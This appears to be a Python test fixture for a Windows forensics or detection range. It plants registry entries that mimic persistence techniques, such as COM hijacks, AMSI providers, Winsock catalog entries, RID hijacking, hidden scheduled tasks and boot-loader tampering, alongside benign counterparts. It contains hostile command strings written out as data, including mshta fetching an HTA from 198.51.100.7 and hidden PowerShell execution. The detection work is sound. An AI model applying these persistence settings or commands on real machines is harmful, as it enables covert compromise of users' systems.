"""Plant objects of Windows that are more than one value: tasks of the cache, accounts, COM classes, services with a descriptor, BCD."""

from __future__ import annotations

import struct
from collections.abc import Callable
from typing import TYPE_CHECKING, Any
from uuid import UUID

if TYPE_CHECKING:
    from tests.range.plants import Planter

SOFTWARE, SYSTEM, USER = "Windows/System32/config/SOFTWARE", "Windows/System32/config/SYSTEM", "Users/agnes/NTUSER.DAT"
SAM, BCD = "Windows/System32/config/SAM", "Boot/BCD"
CURRENT, EXPLORER = "Microsoft\\Windows\\CurrentVersion", "Microsoft\\Windows\\CurrentVersion\\Explorer"
CACHE = "Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache"
BAD = ("C:\\Users\\Public\\{}.dll", "%SystemRoot%\\Temp\\{}.dll", "C:\\ProgramData\\{}.dll")
GOOD = ("C:\\Program Files\\{}\\x.dll", "%SystemRoot%\\System32\\{}.dll", "C:\\Windows\\SysWOW64\\{}.dll")
Put = Callable[..., None]


def plant(p: Planter, host: str, number: int, *, guilty: bool) -> None:
    """Plant the `number`th variant of every row on a host."""

    def put(hive: str, key: str, name: str, data: Any, kind: str = "") -> None:
        kind = kind or {int: "REG_DWORD", bytes: "REG_BINARY"}.get(type(data), "REG_SZ")
        p.value(host, hive, key, name, kind, data.hex() if isinstance(data, bytes) else str(data))

    # Windows always has a task with its file, an administrator with the number of his key, and a loader that tests signatures
    _task(put, p, host, "Reference", "C:\\Windows\\System32\\cleanmgr.exe", "/autoclean")
    _account(put, 500, 500, "Administrator")
    _boot(put, "{00000000-0000-0000-0000-000000000001}", "\\Windows\\system32\\winload.efi", "Windows 10")
    for row, make in ROWS.items():
        word = p.word()
        others = make(put, p, host, number, word, guilty) or ()
        least = LEAST.get(row, "high")
        p.note(row, host, guilty, MARKS.get(row, "{}").format(word), least)
        for other in others:
            p.note(other, host, guilty, word, "medium")


def _class(put: Put, number: int, word: str, guilty: bool, serial: int) -> str:
    clsid = f"{{ABCDEF01-2222-3333-4444-{serial:06d}{number:06d}}}"
    put(SOFTWARE, f"Classes\\CLSID\\{clsid}\\InprocServer32", "", (BAD if guilty else GOOD)[number].format(word))
    return clsid


def _provider(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    clsid = _class(put, number, word, guilty, 86)
    kind = ("Credential Providers", "Credential Provider Filters", "PLAP Providers")[number]
    put(SOFTWARE, f"{CURRENT}\\Authentication\\{kind}\\{clsid}", "", word)


def _amsi(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    put(SOFTWARE, f"Microsoft\\AMSI\\Providers\\{_class(put, number, word, guilty, 123)}", "", word)


def _handler(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    clsid = _class(put, number, word, guilty, 126)
    place = (
        "Classes\\*\\shellex\\ContextMenuHandlers",
        "Classes\\Directory\\shellex\\CopyHookHandlers",
        f"{EXPLORER}\\ShellIconOverlayIdentifiers",
    )
    put(SOFTWARE, f"{place[number]}\\{word}", "", clsid)


def _helper(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    clsid = _class(put, number, word, guilty, 129)
    if number == 1:
        put(SOFTWARE, "Microsoft\\Internet Explorer\\Toolbar", clsid, word)
    else:
        put(SOFTWARE, f"{EXPLORER}\\Browser Helper Objects\\{clsid}", "", word)


def _trigger(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> tuple[str, ...]:
    key = f"ControlSet001\\Services\\{word}"
    image = BAD[number].replace(".dll", ".exe") if guilty else GOOD[number].replace(".dll", ".exe")
    put(SYSTEM, key, "ImagePath", image.format(word), "REG_EXPAND_SZ")
    put(SYSTEM, key, "Start", 3)
    put(SYSTEM, f"{key}\\TriggerInfo\\0", "Type", 20)
    return ("W050",) if guilty else ()


def _driver(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    bad = ("\\??\\C:\\Users\\agnes\\tools\\{}.sys", "\\??\\D:\\x\\{}.sys", "C:\\tools\\{}.sys")
    good = (
        "system32\\DRIVERS\\{}.sys",
        "\\SystemRoot\\System32\\DriverStore\\FileRepository\\x\\{}.sys",
        "\\??\\C:\\Program Files\\x\\{}.sys",
    )
    put(SYSTEM, f"ControlSet001\\Services\\{word}", "ImagePath", (bad if guilty else good)[number].format(word), "REG_EXPAND_SZ")
    put(SYSTEM, f"ControlSet001\\Services\\{word}", "Type", 1)
    put(SYSTEM, f"ControlSet001\\Services\\{word}", "Start", 1)


def _descriptor(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    administrators, interactive, everyone = (5, 32, 544), (5, 4), (1, 0)
    bad = (
        [(1, 0xF01FF, interactive), (0, 0xF01FF, administrators)],
        [(0, 0x20000, administrators)],
        [(0, 0xF01FF, administrators), (0, 0xF01FF, everyone)],
    )
    good = (
        [(0, 0xF01FF, administrators), (0, 0x2018D, interactive)],
        [(0, 0x2018F, administrators)],
        [(1, 0x10020, everyone), (0, 0xF01FF, administrators)],
    )
    put(SYSTEM, f"ControlSet001\\Services\\{word}", "ImagePath", f"C:\\Program Files\\{word}\\s.exe")
    put(SYSTEM, f"ControlSet001\\Services\\{word}\\Security", "Security", _security((bad if guilty else good)[number]))


def _security(entries: list[tuple[int, int, tuple[int, ...]]]) -> bytes:
    aces = b""
    for kind, mask, (authority, *numbers) in entries:
        who = struct.pack("<BB", 1, len(numbers)) + authority.to_bytes(6, "big") + b"".join(struct.pack("<I", one) for one in numbers)
        aces += struct.pack("<BBHI", kind, 0, 8 + len(who), mask) + who
    return struct.pack("<BBHIIII", 1, 0, 0x8004, 0, 0, 0, 20) + struct.pack("<BBHHH", 2, 0, 8 + len(aces), len(entries), 0) + aces


def _winsock(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    base = "ControlSet001\\Services\\WinSock2\\Parameters"
    library = (BAD[number].format(word), "%SystemRoot%\\System32\\mswsock.dll")[not guilty]
    if number == 1:
        put(SYSTEM, f"{base}\\NameSpace_Catalog5\\Catalog_Entries64\\000000000004", "LibraryPath", library)
        put(SYSTEM, f"{base}\\NameSpace_Catalog5\\Catalog_Entries64\\000000000004", "Enabled", 1)
    else:  # the entry of TCP over IPv4 or IPv6: flags, provider, number, chain of one, and more
        provider = UUID(("e70f1aa0-ab8b-11cf-8ca3-00805f48a192", "", "f9eab0c0-26d4-11d0-bbbf-00aa006c34e4")[number]).bytes_le
        facts = struct.pack("<5I", 0x20066, 0, 0, 0, 8) + provider + struct.pack("<Ii", 1001 + number, 1)
        packed = library.encode().ljust(260, b"\0") + facts.ljust(628, b"\0")
        put(SYSTEM, f"{base}\\Protocol_Catalog9\\Catalog_Entries\\{1 + number:012d}", "PackedCatalogItem", packed)


def _account(put: Put, key: int, number: int, name: str, flags: int = 0x210) -> None:
    """A key of the accounts. Its data ends with the number at 48; the name is behind the table of texts, which is 204 bytes long."""
    facts = struct.pack("<H46xI4xH6xHH12x", 3, number, flags, 0, 1)
    raw = name.encode("utf-16-le")
    texts = struct.pack("<12xII", 0, len(raw)).ljust(204, b"\0") + raw
    put(SAM, f"SAM\\Domains\\Account\\Users\\{key:08X}", "F", facts)
    put(SAM, f"SAM\\Domains\\Account\\Users\\{key:08X}", "V", texts)


def _hijacked(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> tuple[str, ...]:
    key = 2001 + number
    _account(put, key, (500, 500, 1000)[number] if guilty else key, word, 0x211)
    return ()


def _made(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    _account(put, 3001 + number, 3001 + number, (f"{word}$" if number != 1 else word) if guilty else word, 0x210 if guilty else 0x211)


def _task(put: Put, p: Planter, host: str, path: str, command: str, arguments: str, *, file: str | None = None) -> None:
    """A task of the cache; `file`: the command in its file, '' for no file, None for the same."""
    identity = f"{{{abs(hash_of(path)):032x}}}"
    parts = [text.encode("utf-16-le") for text in ("Author", "", command, arguments, "")]
    context, name, program, line, folder = (struct.pack("<I", len(part)) + part for part in parts)
    actions = struct.pack("<H", 3) + context + struct.pack("<H", 0x6666) + name + program + line + folder + struct.pack("<H", 0)
    put(SOFTWARE, f"{CACHE}\\Tasks\\{identity}", "Path", f"\\{path}")
    put(SOFTWARE, f"{CACHE}\\Tasks\\{identity}", "Actions", actions)
    if file != "":
        p.file(host, f"Windows/System32/Tasks/{path.replace(chr(92), '/')}", xml(command if file is None else file, arguments))


def hash_of(text: str) -> int:
    return int.from_bytes(text.encode().ljust(16, b"\0")[:16], "big")


def xml(command: str, arguments: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
        f"<Triggers/><Actions><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions></Task>"
    )


def _cached(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> tuple[str, ...]:
    bad = (f"C:\\Users\\Public\\{word}.exe", "mshta.exe", f"C:\\Windows\\Temp\\{word}.exe")
    good = (f"C:\\Program Files\\{word}\\u.exe", "%windir%\\system32\\rundll32.exe", "C:\\Windows\\System32\\sc.exe")
    _task(put, p, host, word, (bad if guilty else good)[number], ("-a", "http://198.51.100.7/a.hta", "")[number] if guilty else "start x")
    return ("W100",) if guilty else ()


def _orphan(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    path = (word, f"Microsoft\\Windows\\{word}", f"{word}\\x")[number]
    _task(put, p, host, path, f"C:\\Program Files\\x\\{word}.exe", "/u", file="" if guilty else None)


def _hidden(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    key = f"{CACHE}\\Tree\\" + (word, f"Microsoft\\{word}", f"Microsoft\\Windows\\Sub\\{word}")[number]
    put(SOFTWARE, key, "Id", f"{{{word}}}")
    put(SOFTWARE, key, "Index", 0 if guilty and number == 1 else 3)
    if not guilty or number == 1:
        put(SOFTWARE, key, "SD", b"\1\0\4\x80" + bytes(16))


def _differing(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    command = f'"C:\\Program Files\\x\\{word}.exe"'
    other = ("C:\\Program Files\\x\\other.exe", "%windir%\\system32\\defrag.exe", "C:\\Windows\\System32\\sc.exe")[number]
    _task(put, p, host, word, command, "/u", file=other if guilty else command.upper() if number == 1 else None)


def _certificate(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    policy = "Policies\\Microsoft\\SystemCertificates\\ROOT\\Certificates"
    bad = ((USER, "Software\\Microsoft\\SystemCertificates\\ROOT\\Certificates"), (SOFTWARE, policy), (USER, f"Software\\{policy}"))
    good = (
        (SOFTWARE, "Microsoft\\SystemCertificates\\AuthRoot\\Certificates"),
        (USER, "Software\\Microsoft\\SystemCertificates\\My\\Certificates"),
    )
    hive, key = bad[number] if guilty else good[number % 2]
    put(hive, f"{key}\\{word}", "Blob", bytes(40))


def _uninstaller(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    bad = (
        f"C:\\Users\\Public\\{word}.exe /u",
        f"powershell.exe -w hidden -c C:\\Windows\\Temp\\{word}.ps1",
        f"mshta http://198.51.100.7/{word}.hta",
    )
    good = (
        f"C:\\Program Files\\{word}\\unins000.exe",
        "MsiExec.exe /X{90160000-008C-0000-0000-0000000FF1CE}",
        f'"C:\\ProgramData\\Package Cache\\{{1}}\\{word}.exe" /uninstall',
    )
    put(SOFTWARE, f"{CURRENT}\\Uninstall\\{word}", "DisplayName", word)
    put(SOFTWARE, f"{CURRENT}\\Uninstall\\{word}", "UninstallString", (bad if guilty else good)[number])


def _shim(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    bad = (
        f"C:\\Windows\\AppPatch\\Custom\\{{{word}}}.sdb",
        f"C:\\Windows\\AppPatch\\CustomSDB\\{word}.sdb",
        f"C:\\Users\\Public\\{word}.sdb",
    )
    path = bad[number] if guilty else f"C:\\Program Files\\{word}\\fix.sdb"
    put(SOFTWARE, f"Microsoft\\Windows NT\\CurrentVersion\\AppCompatFlags\\InstalledSDB\\{{{word}}}", "DatabasePath", path)


def _boot(put: Put, identity: str, path: str, title: str, elements: tuple[tuple[str, Any], ...] = ()) -> None:
    put(BCD, f"Objects\\{identity}\\Description", "Type", 0x10200003)
    for element, data in (("12000002", path), ("12000004", title), *elements):
        put(BCD, f"Objects\\{identity}\\Elements\\{element}", "Element", data)


def _loader(put: Put, p: Planter, host: str, number: int, word: str, guilty: bool) -> None:
    identity = f"{{11111111-0000-0000-0000-{number:012d}}}"
    extra = (
        ((("16000049", b"\1"),), (("16000048", b"\1"),), ())[number]
        if guilty
        else ((), (("16000009", b"\0"),), (("16000049", b"\0"),))[number]
    )
    path = f"\\Temp\\{word}.efi" if guilty and number == 2 else "\\Windows\\system32\\winload.efi"
    put(BCD, f"Objects\\{identity}", word, 1)
    _boot(put, identity, path, word, extra)


ROWS: dict[str, Callable[..., Any]] = {
    "W043": _loader,
    "W053": _trigger,
    "W054": _driver,
    "W056": _descriptor,
    "W058": _winsock,
    "W086": _provider,
    "W088": _hijacked,
    "W090": _made,
    "W093": _certificate,
    "W101": _cached,
    "W102": _orphan,
    "W103": _hidden,
    "W104": _differing,
    "W123": _amsi,
    "W126": _handler,
    "W129": _helper,
    "W163": _shim,
    "W191": _uninstaller,
}
LEAST = {"W054": "medium", "W090": "low", "W093": "medium", "W126": "medium", "W129": "medium"}
MARKS: dict[str, str] = {}
